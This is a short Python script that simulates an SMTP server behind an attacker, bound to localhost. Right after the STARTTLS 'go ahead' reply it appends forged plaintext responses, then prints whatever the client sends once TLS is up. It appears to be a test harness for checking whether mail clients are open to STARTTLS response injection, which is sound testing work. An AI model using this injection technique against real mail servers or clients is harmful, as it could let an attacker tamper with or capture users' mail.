"""A mail server behind an attacker, who appends replies to that of STARTTLS.

    injecting_server.py PORT CERTIFICATE KEY

The true server never replies after the handshake. Prints what it reads then.
"""

import asyncio
import ssl
import sys

PORT, CERTIFICATE, KEY = int(sys.argv[1]), sys.argv[2], sys.argv[3]
INJECTED = b"250 hello\r\n" + b"250 mail\r\n" + b"250 rcpt\r\n" + b"354 data\r\n" + b"250 2.0.0 accepted\r\n"


async def serve(reader, writer):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(CERTIFICATE, KEY)
    writer.write(b"220 mail.example.jp\r\n")
    while line := await reader.readline():
        if line.upper().startswith(b"STARTTLS"):
            writer.write(b"220 2.0.0 go ahead\r\n" + INJECTED)
            await writer.drain()
            try:
                await writer.start_tls(context)
            except (OSError, ssl.SSLError):
                break
            while line := await reader.readline():
                print(line, flush=True)
            break
        writer.write(b"250-mail.example.jp\r\n250 STARTTLS\r\n")
    writer.close()


async def main():
    server = await asyncio.start_server(serve, "127.0.0.1", PORT)
    print("ready", flush=True)
    await server.serve_forever()


asyncio.run(main())
